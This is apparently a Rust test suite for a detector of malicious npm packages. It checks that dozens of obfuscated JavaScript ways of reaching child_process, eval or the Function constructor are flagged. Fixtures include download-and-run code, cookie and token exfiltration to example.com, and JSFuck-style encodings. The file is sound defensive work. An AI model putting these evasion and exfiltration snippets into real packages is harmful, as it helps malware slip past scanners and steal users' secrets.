//! All ways to a call in JavaScript: whatever copies, wraps or hands on a function, the call is seen.

use cerebro::behavior::{Feature, Reading, extract};
use cerebro::package::{Package, Phase};
use rstest::rstest;

use super::{codes, entry, has, npm, package, steps};

fn runs(package: &Package, feature: Feature) {
    let found = extract(package, &Reading::default()).sequence.steps;
    assert!(found.iter().any(|step| step.feature == feature), "{:?}", codes(&found));
}

/// `cp` is the module and `run('id')` has to be called; nothing of the module's own methods is named in the call.
#[rstest]
#[case::spread("const { exec: run } = { ...cp }; run('id')")]
#[case::spread_called("({ ...cp }).exec('id')")]
#[case::bound_and_called("const f = cp.exec.bind(null, 'id'); for (const g of [f]) g.call(this, 1)")]
#[case::default_of_a_member("function F(o) { this.own = o.cp || cp } const f = new F({}); f.own.exec('id')")]
#[case::assigned("Object.assign({}, cp).exec('id')")]
#[case::assigned_to("const o = {}; Object.assign(o, cp); o.exec('id')")]
#[case::entries("for (const [k, v] of Object.entries(cp)) if (k === 'exec') v('id')")]
#[case::entries_found("Object.entries(cp).find(([n]) => n === 'exec')[1]('id')")]
#[case::entries_filtered("Object.entries(cp).filter(([k]) => k === 'exec')[0][1]('id')")]
#[case::keys_found("cp[Object.keys(cp).find(n => n === 'ex' + 'ec')]('id')")]
#[case::names_found("cp[Object.getOwnPropertyNames(cp).find(n => n === 'exec')]('id')")]
#[case::own_keys("cp[Reflect.ownKeys(cp).filter(n => n.length === 4 && n[1] === 'x')[0]]('id')")]
#[case::from_entries("Object.fromEntries(Object.entries(cp)).exec('id')")]
#[case::map("new Map(Object.entries(cp)).get('exec')('id')")]
#[case::map_set("const m = new Map(); m.set('a', cp.exec); m.get('a')('id')")]
#[case::values("Object.values({ a: cp.exec })[0]('id')")]
#[case::set("[...new Set([cp.exec])][0]('id')")]
#[case::proxy("new Proxy(cp, {}).exec('id')")]
#[case::proxied_function("new Proxy(cp.exec, {})('id')")]
#[case::descriptor("Object.getOwnPropertyDescriptor(cp, 'exec').value('id')")]
#[case::descriptors("Object.getOwnPropertyDescriptors(cp).exec.value('id')")]
#[case::created("Object.create(cp).exec('id')")]
#[case::prototype("({ __proto__: cp }).exec('id')")]
#[case::set_prototype("Object.setPrototypeOf({}, cp).exec('id')")]
#[case::defined("const o = {}; Object.defineProperty(o, 'go', { get: () => cp.exec }); o.go('id')")]
#[case::defined_value("const o = {}; Object.defineProperties(o, { go: { value: cp.exec } }); o.go('id')")]
#[case::getter("const o = { get go() { return cp.exec } }; o.go('id')")]
#[case::class_getter("class A { get go() { return cp.exec } } new A().go('id')")]
#[case::with("with (cp) exec('id')")]
#[case::with_object("with ({ go: cp.exec }) go('id')")]
#[case::called("cp.exec.call({}, 'id')")]
#[case::applied("cp['exec'].apply(null, ['id'])")]
#[case::bound("cp.exec.bind(cp)('id')")]
#[case::bound_argument("cp.exec.bind(null, 'id')()")]
#[case::reflected("Reflect.apply(cp.exec, cp, ['id'])")]
#[case::reflected_get("Reflect.get(cp, 'exec')('id')")]
#[case::uncurried("Function.prototype.call.call(cp.exec, cp, 'id')")]
#[case::uncurried_apply("Function.prototype.apply.call(cp.exec, cp, ['id'])")]
#[case::mapped("[cp.exec].map(f => f('id'))")]
#[case::each("['id'].forEach(cp.exec)")]
#[case::reduced("[cp.exec].reduceRight((a, f) => f(a), 'id')")]
#[case::borrowed("[].map.call(['id'], c => cp.exec(c))")]
#[case::borrowed_prototype("Array.prototype.map.call(['id'], c => cp.exec(c))")]
#[case::array_from("Array.from(['id'], c => cp.exec(c))")]
#[case::timed("setTimeout(cp.exec, 0, 'id')")]
#[case::ticked("process.nextTick(cp.exec, 'id')")]
#[case::resolved("Promise.resolve('id').then(cp.exec)")]
#[case::resolved_module("Promise.resolve(cp).then(m => m.exec('id'))")]
#[case::prototype_method("String.prototype.go = function () { return cp.exec(String(this)) }; 'id'.go()")]
#[case::optional("cp?.['exec']?.('id')")]
#[case::computed_pattern("const { ['ex' + 'ec']: go } = cp; go('id')")]
#[case::to_string("const o = { toString() { return cp.exec('id') } }; `${o}`")]
#[case::value_of("const o = { valueOf() { return cp.exec('id') } }; o + 1")]
fn copies_and_wraps(#[case] call: &str) {
    has("index.js", &format!("const cp = require('node:child_process'); {call}"), Feature::CallProcess);
}

#[rstest]
#[case::built_in_module("process.getBuiltinModule('child_process').exec('id')")]
#[case::built_in_aliased("const { getBuiltinModule: g } = process; g('node:child_process').exec('id')")]
#[case::built_in_global("globalThis['process']['getBuiltin' + 'Module']('child_process').exec('id')")]
#[case::evaluated_require("eval('require')('child_process').exec('id')")]
#[case::indirect_eval("(0, eval)('require')('child_process').exec('id')")]
#[case::function_of_text("new Function('return require')()('child_process').exec('id')")]
#[case::function_with_parameter("new Function('m', 'return import(m)')('child_process').then(c => c.exec('id'))")]
#[case::function_of_parts("Function('a', 'b', 'return require(a + b)')('child_', 'process').exec('id')")]
#[case::function_of_one_list("Function('a,b', 'return require(a + b)')('child_', 'process').exec('id')")]
#[case::function_constructor("Function.constructor('require', 'return require')(require)('child_process').exec('id')")]
#[case::module_constructor("module.constructor._load('child_process').exec('id')")]
#[case::module_require("module['req' + 'uire']('child_process').exec('id')")]
#[case::escaped_names("r\\u0065quire('child\\u005fprocess').\\u0065xec('id')")]
#[case::spread_text("require([...'child_processX'].slice(0, -1).join('')).exec('id')")]
#[case::bun("Bun.spawn(['id'])")]
#[case::bun_sync("const { spawnSync } = Bun; spawnSync(['id'])")]
#[case::bun_shell("await Bun.$`id`")]
#[case::bun_imported("const { $ } = require('bun'); $`id`")]
#[case::deno("new Deno.Command('id').outputSync()")]
fn ways_to_a_process(#[case] source: &str) {
    has("index.js", source, Feature::CallProcess);
}

/// `code` is a text that runs `id`.
#[rstest]
#[case::arrow("(() => {}).constructor(code)()")]
#[case::async_arrow("(async () => {}).constructor(code)()")]
#[case::generator("Object.getPrototypeOf(function* () {}).constructor(code)().next()")]
#[case::text_method("''['sub']['constructor'](code)()")]
#[case::this("this.constructor.constructor(code)()")]
#[case::list_twice("[].constructor.constructor(code)()")]
#[case::object_twice("({}).constructor.constructor(code)()")]
#[case::library("require('fs').readFile.constructor(code)()")]
#[case::tagged("Function`require('child_process').exec('id')```()")]
#[case::reflected("Reflect.construct(Function, [code])()")]
#[case::timer("setTimeout(code, 1)")]
#[case::interval("setInterval(code)")]
#[case::optional("eval?.(code)")]
#[case::given("[eval].forEach(f => f(code))")]
#[case::mapped("[code].map(eval)")]
#[case::resolved("Promise.resolve(code).then(eval)")]
#[case::proxied("new Proxy(eval, {})(code)")]
#[case::ticked("process.nextTick(eval, code)")]
#[case::with("with ({ e: eval }) e(code)")]
#[case::getter("const g = { get x() { return eval } }; g.x(code)")]
#[case::context("require('vm').runInNewContext(code)")]
#[case::worker("new (require('worker_threads').Worker)(code, { eval: true })")]
#[case::data_import("import('data:text/javascript,' + code)")]
#[case::data_import_base64("import('data:text/javascript;base64,' + btoa(code))")]
#[case::data_worker("new Worker('data:text/javascript,' + code)")]
#[case::blob("new Worker(URL.createObjectURL(new Blob([code])))")]
#[case::native_text("[]['flat'][([]['flat'] + [])[3] + 'onstructor'](code)()")]
#[case::six_characters(
    "[][(![]+[])[+[]]+(![]+[])[!![]+!![]]+(![]+[])[+!![]]+(!![]+[])[+[]]]\
     [(String+[])[!![]+!![]+!![]]+'onstructor'](code)()"
)]
#[case::number_text("[]['flat']['c' + (Number+'')[6+0] + 'nstructor'](code)()")]
fn ways_to_code(#[case] call: &str) {
    let source = format!("const code = \"require('child_process').exec('id')\"\n;{call}");
    let found = steps("index.js", &source);
    let has = |feature| found.iter().any(|step| step.feature == feature);
    assert!(has(Feature::EvaluateCode) && has(Feature::CallProcess), "{source}\n{:?}", codes(&found));
}

/// The package's own files as code.
#[rstest]
#[case::read("eval(require('fs').readFileSync('./lib/a.txt', 'utf8'))")]
#[case::read_bytes("eval(require('fs').readFileSync(__dirname + '/lib/a.txt').toString())")]
#[case::read_joined(
    "const p = require('path'); eval(require('fs').readFileSync(p.join(__dirname, 'lib', 'a.txt'), 'utf8'))"
)]
#[case::read_later("require('fs').readFile('lib/a.txt', 'utf8', (e, t) => eval(t))")]
#[case::read_promised("require('fs').promises.readFile('lib/a.txt', 'utf8').then(eval)")]
#[case::read_awaited("(async () => eval(await require('fs/promises').readFile('lib/a.txt', 'utf8')))()")]
#[case::json("eval(require('./lib/a.json').code)")]
#[case::json_pattern("const { code } = require('./lib/a.json'); new Function('require', code)(require)")]
#[case::json_parsed("eval(JSON.parse(require('fs').readFileSync('lib/a.json')).code)")]
#[case::runtime(
    "fetch('https://example.com/bun').then(r => require('child_process').execFileSync(r.path, ['lib/b.js']))"
)]
fn files_of_the_package_as_code(#[case] source: &str) {
    let code = "require('child_process').exec('id')";
    let json = format!("{{\"code\": \"{code}\"}}");
    let files = [
        ("index.js", source),
        ("lib/a.json", json.as_str()),
        ("lib/a.txt", code),
        ("lib/b.js", "require('os').hostname()"),
    ];
    let found = extract(
        &package(cerebro::package::Ecosystem::Npm, &files, vec![entry(Phase::Install, "hook", 0)]),
        &Reading::default(),
    );
    let feature = if source.contains("b.js") { Feature::CallSystem } else { Feature::CallProcess };
    let steps = found.sequence.steps;
    let found = steps.iter().any(|step| step.feature == feature && step.phase == Phase::Install);
    assert!(found, "{source}\n{:?}", codes(&steps));
}

#[rstest]
#[case::answer_in_an_error(
    "try { await axios.get('https://example.com') } catch (e) { eval(e.response.data) }",
    Feature::RunDownloaded
)]
#[case::answer_as_code(
    "const axios = require('axios'); try { axios.get('https://example.com') } catch (e) { new Function('require', e.response.data)(require) }",
    Feature::RunDownloaded
)]
#[case::written_then_started(
    "const fs = require('fs'), cp = require('child_process'); fetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/x', Buffer.from(b)); cp.spawn('/tmp/x') })",
    Feature::RunDownloaded
)]
#[case::written_elsewhere(
    "const fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path'); const at = path.join(os.tmpdir(), 'x'); function put(b) { fs.writeFileSync(at, b) } async function go() { put(await (await fetch('https://example.com/a')).text()) } go(); cp.execFile(at)",
    Feature::RunDownloaded
)]
#[case::image("new Image().src = 'https://example.com/?' + document.cookie", Feature::CallNetwork)]
#[case::element(
    "const i = document.createElement('img'); i.src = '//example.com/?' + document.cookie",
    Feature::SendData
)]
#[case::storage("navigator.sendBeacon('https://example.com', localStorage.getItem('token'))", Feature::SendData)]
#[case::bun_environment("const all = Bun.env", Feature::ReadSecret)]
#[case::deno_environment("Deno.env.toObject()", Feature::ReadSecret)]
#[case::bun_write("await Bun.write('a.txt', 'x')", Feature::CallFiles)]
#[case::deno_write("Deno.writeTextFileSync('a.txt', 'x')", Feature::CallFiles)]
fn what_comes_and_goes(#[case] source: &str, #[case] feature: Feature) {
    runs(&npm(&[("index.js", source)]), feature);
}

/// The look-alikes say nothing.
#[rstest]
#[case::own_copy("const o = { ...{ exec: s => s } }; o.exec('id')")]
#[case::own_map("new Map([['exec', s => s]]).get('exec')('id')")]
#[case::own_getter("const o = { get exec() { return s => s } }; o.exec('id')")]
#[case::own_call("const phone = { call(n) { return n } }; phone.call(1)")]
#[case::timer("setTimeout(() => 1, 10)")]
#[case::picture("const i = new Picture(); i.src = 'a.png'")]
fn nothing_is_found_in(#[case] source: &str) {
    let found = steps("index.js", source);
    assert!(found.is_empty(), "{source}\n{:?}", codes(&found));
}

/// Letters as code of six characters takes them from the engine's own texts.
#[rstest]
#[case("(![]+[])[+!![]]", "a")]
#[case("([]['entries']()+'')[2]", "b")]
#[case("([]['flat']+[])[3]", "c")]
#[case("([][[]]+'')[2]", "d")]
#[case("(101)['toString']('21')[1]", "h")]
#[case("(211)['toString']('31')[1]", "p")]
#[case("(Number+'')[11]", "m")]
#[case("(String+'')[9]", "S")]
#[case("(true+[]['flat'])[10]", "o")]
#[case("([NaN]+[]['flat'])[11]", " ")]
#[case("(true+[]['flat'])[20]", "{")]
#[case("([]['flat']+'')['slice']('-1')", "}")]
#[case("('')['italics']()[0]", "<")]
#[case("('')['fontcolor']()[12]", "\"")]
#[case("('')['fontcolor'](NaN+'\"')[21]", ";")]
#[case("([]['slice']['call'](false+'')+'')[1]", ",")]
#[case("(+('1e100')+[])[2]", "+")]
#[case("(+('.0000001')+[])[2]", "-")]
#[case("(+('11e20')+[])[1]", ".")]
#[case("(RegExp()+'')[3]", ":")]
#[case("(RegExp('/')+'')[1]", "\\")]
#[case("(1/0+[])[0]", "I")]
#[case("Function('return escape')()([]['flat'])[21]", "%")]
#[case("[]['flat']['constructor']('return unescape')()('%4a')", "J")]
#[case("'to'+String['name']", "toString")]
#[case("([]['entries']()+'')['constructor']['name']", "String")]
fn a_letter_of_a_text_of_the_engine(#[case] piece: &str, #[case] letter: &str) {
    let source = format!("eval('/' + '*' + ({piece}) + '*' + '/1')");
    let found = extract(&npm(&[("index.js", &source)]), &Reading::default()).sequence;
    let wanted = format!("/*{letter}*/1");
    let texts: Vec<&str> = found.layers.iter().map(|layer| layer.source.text.as_str()).collect();
    assert!(texts.contains(&wanted.as_str()), "{source}\n{texts:?}");
}
